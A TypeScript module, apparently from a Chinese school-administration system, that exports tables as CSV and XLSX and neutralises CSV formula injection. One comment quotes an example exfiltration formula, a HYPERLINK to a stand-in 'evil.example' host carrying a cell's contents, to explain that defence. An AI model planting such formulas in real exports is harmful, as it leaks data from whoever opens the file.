import ExcelJS from 'exceljs';
import { stringify } from 'csv-stringify/sync';

/** A table ready to be written: header labels and rows of cell values. */
export interface Sheet {
  name: string;
  headers: string[];
  rows: (string | number | boolean | null | undefined)[][];
  /** XLSX: 0-based columns formatted as text (codes, phone numbers). */
  textColumns?: number[];
  /** XLSX: a title row above the headers, merged across them (printed schedules); CSV has none. */
  title?: string;
}

/**
 * CSV in UTF-8 with a byte-order mark: without it Excel on Chinese Windows
 * opens the file as GBK and shows mojibake.
 */
export function writeCsv(sheet: Sheet): Buffer {
  const text = stringify(
    [sheet.headers.map(neutralizeCsvCell), ...sheet.rows.map((r) => r.map((v) => (v == null ? '' : neutralizeCsvCell(v))))],
    {
      cast: { boolean: (b) => (b ? 'true' : 'false') },
    },
  );
  return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]);
}

/** What Excel and LibreOffice read as the start of a formula (and DDE) when they open a CSV; full-width forms too, which CJK Excel also accepts. */
export const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
/** A plain decimal number: Excel reads it as a number, never as a formula, so it is left alone. */
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/**
 * CSV formula injection (OWASP "CSV Injection"): a cell such as
 * `=HYPERLINK("http://evil.example/?x="&A1,"点我")` typed into a name field
 * would run when the export is opened in Excel. Such a cell gets a leading
 * single quote, which Excel shows as text. Numbers are not touched, so
 * negative numbers stay numbers: a JS number, or text that is a plain
 * decimal number (-3, +1.5, 1e3), cannot be a formula. The trade-off OWASP
 * notes: a text cell that merely starts with "-" (e.g. "-备注") also gets
 * the quote; we accept that over guessing which text is safe.
 */
export function neutralizeCsvCell<T extends string | number | boolean>(v: T): T | string {
  if (typeof v !== 'string' || !FORMULA_START.test(v) || PLAIN_NUMBER.test(v)) return v;
  return `'${v}`;
}

export async function writeXlsx(sheet: Sheet): Promise<Buffer> {
  return writeXlsxBook([sheet]);
}

/** Several sheets in one workbook (an import template and its notes). */
export async function writeXlsxBook(sheets: Sheet[]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  wb.creator = 'Jiaowu';
  for (const sheet of sheets) addSheet(wb, sheet);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

function addSheet(wb: ExcelJS.Workbook, sheet: Sheet) {
  const ws = wb.addWorksheet(sheet.name.slice(0, 31) || 'Sheet1');
  // Text format first, so numbers typed later (学号 0012…) keep their leading zeros.
  for (const i of sheet.textColumns ?? []) ws.getColumn(i + 1).numFmt = '@';
  if (sheet.title !== undefined) {
    const title = ws.addRow([sheet.title]);
    title.font = { bold: true, size: 14 };
    title.height = 24;
    ws.mergeCells(1, 1, 1, Math.max(1, sheet.headers.length));
  }
  ws.addRow(sheet.headers).font = { bold: true };
  // Strings go in as strings: exceljs writes a formula only for { formula } values, so "=1+1" stays text.
  for (const row of sheet.rows) ws.addRow(row.map((v) => (v == null ? null : v)));
  ws.columns.forEach((col, i) => {
    const longest = Math.max(String(sheet.headers[i] ?? '').length * 2, ...sheet.rows.slice(0, 200).map((r) => String(r[i] ?? '').length));
    col.width = Math.min(60, Math.max(8, longest + 2));
  });
  ws.views = [{ state: 'frozen', ySplit: sheet.title === undefined ? 1 : 2 }];
}

export const CONTENT_TYPES = {
  csv: 'text/csv; charset=utf-8',
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
} as const;

export async function renderSheet(sheet: Sheet, format: 'csv' | 'xlsx'): Promise<Buffer> {
  return format === 'csv' ? writeCsv(sheet) : writeXlsx(sheet);
}

/** RFC 6266 filename with a UTF-8 variant for Chinese names. */
export function attachmentHeader(filename: string): string {
  const ascii = filename.replace(/[^\x20-\x7e]/g, '_').replace(/"/g, '');
  return `attachment; filename="${ascii}"; filename*=UTF-8''${encodeURIComponent(filename)}`;
}
